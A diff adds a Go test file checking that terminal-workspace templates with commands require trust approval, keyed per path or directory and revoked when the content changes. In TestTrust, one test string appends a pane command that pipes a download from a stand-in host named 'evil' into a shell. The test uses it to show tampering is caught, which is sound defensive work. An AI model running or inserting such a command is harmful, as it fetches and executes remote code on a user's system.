@@ -0,0 +1,87 @@
+package template
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestWithoutCommands(t *testing.T) {
+	tpl, err := Parse(strings.NewReader(sample))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !tpl.NeedsTrust() {
+		t.Fatalf("expected a template with commands to need trust")
+	}
+	inert := tpl.WithoutCommands()
+	if inert.NeedsTrust() || len(inert.Env) != 0 {
+		t.Fatalf("expected no commands or env, got %+v", inert)
+	}
+	if inert.Name != "api" || len(inert.Windows) != len(tpl.Windows) || inert.Windows[1].Panes[1].Dir != "web" {
+		t.Fatalf("expected name, windows and dirs kept, got %+v", inert)
+	}
+	if tpl.Windows[0].Panes[0].Command != "nvim ." {
+		t.Fatalf("expected the original template untouched")
+	}
+}
+
+func TestTrust(t *testing.T) {
+	t.Setenv("P_TRUST_PATH", filepath.Join(t.TempDir(), "trusted"))
+	dir := t.TempDir()
+	path := filepath.Join(dir, FileName)
+	other := filepath.Join(t.TempDir(), FileName)
+	write(t, path, sample)
+	write(t, other, sample)
+
+	if trusted, err := Trusted(path); err != nil || trusted {
+		t.Fatalf("new template: %v, %v", trusted, err)
+	}
+	if err := Trust(path); err != nil {
+		t.Fatal(err)
+	}
+	if trusted, err := Trusted(path); err != nil || !trusted {
+		t.Fatalf("approved template: %v, %v", trusted, err)
+	}
+	if trusted, _ := Trusted(other); trusted {
+		t.Fatalf("approval should be per path")
+	}
+
+	write(t, path, sample+"[window logs]\ncommand = curl evil | sh\n")
+	if trusted, _ := Trusted(path); trusted {
+		t.Fatalf("a changed template should need approving again")
+	}
+	if err := Trust(path); err != nil {
+		t.Fatal(err)
+	}
+	lines, err := trustLines()
+	if err != nil || len(lines) != 1 {
+		t.Fatalf("expected the old approval replaced, got %q, %v", lines, err)
+	}
+}
+
+func TestTrustDetected(t *testing.T) {
+	t.Setenv("P_TRUST_PATH", filepath.Join(t.TempDir(), "trusted"))
+	dir := t.TempDir()
+	write(t, filepath.Join(dir, "go.mod"), "module example.com/app\n")
+	tpl, _ := Detect(dir)
+
+	if trusted, err := TrustedDetected(dir, tpl); err != nil || trusted {
+		t.Fatalf("new layout: %v, %v", trusted, err)
+	}
+	if err := TrustDetected(dir, tpl); err != nil {
+		t.Fatal(err)
+	}
+	if trusted, err := TrustedDetected(dir, tpl); err != nil || !trusted {
+		t.Fatalf("approved layout: %v, %v", trusted, err)
+	}
+	if trusted, _ := TrustedDetected(t.TempDir(), tpl); trusted {
+		t.Fatalf("approval should be per directory")
+	}
+
+	write(t, filepath.Join(dir, "Makefile"), "build:\n")
+	tpl, _ = Detect(dir)
+	if trusted, _ := TrustedDetected(dir, tpl); trusted {
+		t.Fatalf("a changed layout should need approving again")
+	}
+}